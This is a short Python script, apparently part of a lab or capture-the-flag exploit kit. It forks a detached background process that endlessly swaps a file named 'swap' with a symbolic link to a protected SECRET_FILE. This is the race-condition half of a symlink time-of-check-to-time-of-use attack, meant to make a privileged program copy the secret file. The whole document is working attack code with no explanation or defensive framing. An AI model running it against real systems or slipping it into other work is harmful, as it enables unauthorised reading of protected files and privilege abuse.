"""Leaves a process that swaps a file for a link again and again, to catch a copy in between."""

from kit import *

open("swap", "w").close()
if os.fork() == 0:
    os.setsid()
    while True:
        try:
            os.unlink("swap")
            os.symlink(SECRET_FILE, "swap")
            os.unlink("swap")
            open("swap", "w").close()
        except OSError:
            open("swap", "w").close()
